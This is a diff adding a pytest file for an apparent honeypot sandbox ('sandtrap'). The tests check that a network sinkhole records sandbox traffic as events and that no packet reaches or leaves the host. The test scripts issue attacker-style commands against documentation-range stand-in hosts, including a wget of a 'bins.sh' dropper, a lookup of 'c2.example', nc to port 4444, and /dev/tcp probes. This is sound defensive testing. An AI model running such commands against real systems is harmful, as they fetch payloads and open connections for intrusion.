@@ -1,0 +1,208 @@
+"""The network sinkhole against the real engine: a sandbox sees a network, every packet reaches
+the sinkhole and becomes an event of its session, and nothing reaches the host or leaves it.
+
+The addresses are documentation ranges (RFC 5737) and the host's own; the host side is watched
+by a listener of ours on every host address and by nftables counters on the host (a table of our
+own, counting only, removed afterwards).
+"""
+
+from __future__ import annotations
+
+import json
+import random
+import socket
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from sandtrap.network.image import build_sinkhole
+from sandtrap.sandbox.sinknet import bridge_name, network_name
+from tests.docker.service import RunningService, remove_sensor_containers, service_config
+
+pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]
+
+SINKHOLE_IMAGE = "sandtrap/sinkhole:12"
+
+
+def _wait_events(
+    service: RunningService, eventid: str, predicate: Any, timeout: float = 20
+) -> list[dict[str, Any]]:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        found = [e for e in service.events(eventid) if predicate(e)]
+        if found:
+            return found
+        time.sleep(0.2)
+    raise AssertionError(f"no {eventid} event matched in {timeout}s: {service.events(eventid)}")
+
+
+@pytest.fixture(scope="module")
+def sinkholed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
+    build_sinkhole(SINKHOLE_IMAGE)
+    subnet = f"10.{random.randint(120, 250)}.0.0/16"  # noqa: S311 - avoids stale networks' subnets
+    config = service_config(
+        tmp_path_factory.mktemp("var"),
+        pool={"size": 2, "max_sandboxes": 6},
+        sandbox={"network": "sinkhole", "sinkhole": {"image": SINKHOLE_IMAGE, "subnet": subnet}},
+    )
+    running = RunningService(config).start()
+    try:
+        running.wait_warm()
+        yield running
+    finally:
+        running.stop()
+        remove_sensor_containers(config.sensor)
+        subprocess.run(
+            ["docker", "network", "rm", network_name(config.sensor)],
+            capture_output=True,
+            check=False,
+        )
+
+
+def _session_of(service: RunningService, marker: str) -> str:
+    found = _wait_events(service, "session.exec", lambda e: marker in e["input"])
+    return str(found[-1]["session"])
+
+
+def test_attacker_commands_behave_like_a_network_and_become_events(
+    sinkholed: RunningService,
+) -> None:
+    proc = sinkholed.ssh(
+        "wget -q -O- http://203.0.113.7/bins.sh; echo wget=$?; "
+        "curl -s https://example.com/x; echo curl=$?; "
+        "getent hosts c2.example; echo getent=$?; "
+        "echo hello | timeout 3 nc 198.51.100.9 4444; echo nc=$?; "
+        "ip route; cat /etc/resolv.conf; ip -o addr show eth0"
+    )
+    out = proc.stdout.decode()
+    assert "#!/bin/sh" in out and "wget=0" in out, out
+    assert "curl=35" in out, out  # the TLS handshake fails, as with a server it shares nothing with
+    assert "getent=0" in out and "c2.example" in out, out
+    assert "default via" in out and "nameserver" in out and "127.0.0.11" not in out, out
+    assert " inet6 " not in out, out
+    session = _session_of(sinkholed, "wget -q -O- http://203.0.113.7/bins.sh")
+    mine = lambda e: e["session"] == session  # noqa: E731
+    http = _wait_events(sinkholed, "network.http", mine)[0]
+    assert http["url"] == "http://203.0.113.7/bins.sh" and http["dst_ip"] == "203.0.113.7"
+    assert http["user_agent"].startswith("Wget/") and http["src_ip"] == "127.0.0.1"
+    assert http["container_id"]
+    tls = _wait_events(sinkholed, "network.tls", mine)[0]
+    assert tls["sni"] == "example.com" and tls["dst_port"] == 443 and len(tls["ja3"]) == 32
+    _wait_events(sinkholed, "network.dns", lambda e: mine(e) and e["query"] == "c2.example")
+    _wait_events(
+        sinkholed,
+        "network.connect",
+        lambda e: mine(e) and e["dst_ip"] == "198.51.100.9" and e["dst_port"] == 4444,
+    )
+    data = _wait_events(sinkholed, "network.data", lambda e: mine(e) and e["dst_port"] == 4444)
+    assert data[0]["first_bytes"] == "aGVsbG8K"  # "hello\n"
+
+
+def _host_addresses() -> list[str]:
+    out = subprocess.run(
+        ["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True, check=True
+    ).stdout
+    return sorted({line.split()[3].split("/")[0] for line in out.splitlines()} - {"127.0.0.1"})
+
+
+class _HostListener:
+    """A TCP listener on every host address that says a secret and counts who came."""
+
+    SECRET = b"HOST-LISTENER-REACHED\n"
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("0.0.0.0", 0))  # noqa: S104 - the point: reachable on every host address
+        self.sock.listen(16)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.peers: list[str] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, peer = self.sock.accept()
+            except TimeoutError:
+                continue
+            self.peers.append(peer[0])
+            with conn:
+                conn.sendall(self.SECRET)
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(5)
+        self.sock.close()
+
+
+def _nft(*args: str, stdin: str | None = None) -> str:
+    return subprocess.run(
+        ["nft", *args], input=stdin, capture_output=True, text=True, check=True, timeout=10
+    ).stdout
+
+
+def test_nothing_reaches_the_host_or_leaves_it(sinkholed: RunningService) -> None:
+    sensor = sinkholed.config.sensor
+    subnet = sinkholed.config.sandbox.sinkhole.subnet
+    bridge = bridge_name(sensor)
+    table = f"sandtrap_sinktest_{random.randint(0, 1 << 30)}"  # noqa: S311
+    # Counting only, in our own table: packets from the sandboxes' subnet that the host receives
+    # itself, or routes out of any interface other than the sinkhole's bridge; and, to show the
+    # counters see the sandboxes' packets at all, those bridged to the sinkhole (br_netfilter).
+    _nft("-f", "-", stdin=f"""
+table inet {table} {{
+  chain c_in {{ type filter hook input priority -300; policy accept;
+    ip saddr {subnet} counter
+  }}
+  chain c_post {{ type filter hook postrouting priority -300; policy accept;
+    ip saddr {subnet} oifname != "{bridge}" counter
+  }}
+  chain c_fwd {{ type filter hook forward priority -300; policy accept;
+    ip saddr {subnet} oifname != "{bridge}" counter
+    ip saddr {subnet} oifname "{bridge}" counter
+  }}
+}}""")
+    listener = _HostListener()
+    try:
+        targets = [*_host_addresses(), "172.17.0.1", "10.0.0.1", "192.168.0.1"]
+        gateway = str(sinkholed.config.sandbox.sinkhole.subnet).rsplit(".", 2)[0] + ".0.1"
+        script = "; ".join(
+            f"timeout 1 bash -c 'exec 3<>/dev/tcp/{ip}/{listener.port}; head -c 40 <&3' "
+            f"&& echo reached-{ip}"
+            for ip in [*targets, gateway]
+        )
+        script += "; ping -c 1 -W 1 8.8.8.8 >/dev/null 2>&1; echo x > /dev/udp/203.0.113.9/9999"
+        script += "; python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'"
+        script += " 2>&1 | tail -1; echo ok"
+        for user in ("root", "oracle"):
+            proc = sinkholed.ssh(script, user=user, password="x" if user == "oracle" else "123456")
+            out = proc.stdout.decode()
+            assert _HostListener.SECRET.decode().strip() not in out, out
+            assert "PermissionError" in out and out.rstrip().endswith("ok"), out
+        time.sleep(1)
+        assert listener.peers == []
+        counters = json.loads(_nft("-j", "list", "table", "inet", table))
+        packets = [
+            item["counter"]["packets"]
+            for rule in counters["nftables"]
+            if "rule" in rule
+            for item in rule["rule"]["expr"]
+            if "counter" in item
+        ]
+        assert packets[:3] == [0, 0, 0] and packets[3] > 0, counters
+        session = _session_of(sinkholed, "exec 3<>/dev/tcp/")
+        caught = {
+            e["dst_ip"]
+            for e in sinkholed.events("network.connect")
+            if e["session"] == session and e["dst_port"] == listener.port
+        }
+        assert set(targets) <= caught
+    finally:
+        listener.close()
+        subprocess.run(["nft", "delete", "table", "inet", table], capture_output=True, check=False)
